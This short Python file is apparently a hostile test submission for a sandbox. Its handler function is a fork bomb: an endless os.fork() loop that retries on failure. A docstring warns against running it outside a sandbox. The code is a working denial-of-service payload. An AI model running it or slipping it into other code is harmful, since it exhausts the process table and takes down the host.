"""A submission that forks as fast as it can. Read it; never run it outside of a sandbox."""

import os


def handler(event: object, context: object) -> None:
    """Fork, and let every child do the same; when there is no more room, try again."""
    while True:
        try:
            os.fork()
        except OSError:
            continue
